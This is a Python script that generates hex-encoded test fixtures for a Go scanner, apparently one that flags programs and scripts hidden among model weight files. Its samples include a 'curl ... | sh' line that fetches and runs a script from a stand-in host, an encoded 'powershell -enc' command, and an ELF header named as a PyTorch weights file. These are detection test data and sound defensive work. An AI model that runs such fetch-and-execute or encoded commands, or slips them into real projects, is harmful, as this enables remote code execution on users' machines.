#!/usr/bin/env python3
"""Writes programs.txtar: the smallest headers of programs, written by hand.

    python3 testdata/make.py && go test . -run '^Test$' -update
"""
import pathlib, struct, textwrap

ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHIQQQIHHHHHH", 3, 62, 1, 0, 64, 0, 0, 64, 56, 0, 64, 0, 0) + bytes(64)
PE = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + struct.pack("<HHIIIHH", 0x8664, 1, 0, 0, 0, 240, 0x22) + bytes(64)
MACHO = struct.pack("<IIIIIIII", 0xfeedfacf, 0x0100000c, 0, 6, 0, 0, 0, 0) + bytes(64)
NOT = b"\x7fELF" + bytes(200)
SHELL = b"#!/bin/sh\n# fetches\ncurl -s https://x.example/a.sh | sh\n"
FINE = b"#!/bin/sh\ncurl -L -o model.bin https://huggingface.co/a/b/resolve/main/model.bin\npython train.py\n"

FILES = [
    ("m/model.safetensors", b"not read here, but it is here"),
    ("m/libop.so", ELF), ("m/run.exe", PE), ("m/libop.dylib", MACHO), ("m/noise.dat", NOT),
    ("m/setup.sh", SHELL), ("m/train.sh", FINE), ("m/go.bat", b"powershell -enc SQBFAFgAIABhAGIAYwBkAGUA\r\n"),
    ("weights/pytorch_model.bin", ELF), ("other/tool", ELF), ("other/install.sh", SHELL),
]

here = pathlib.Path(__file__).parent / "programs.txtar"
old = here.read_text() if here.exists() else ""
want = old.partition("-- want.json --\n")[2].partition("\n-- ")[0] or "{}"
text = "programs and scripts among the files of a model, under the name of weights, and where they are none of our business\n-- want.json --\n" + want.strip() + "\n"
for name, data in FILES:
    text += f"-- {name}.hex --\n" + "\n".join(textwrap.wrap(data.hex(), 120)) + "\n"
here.write_text(text)
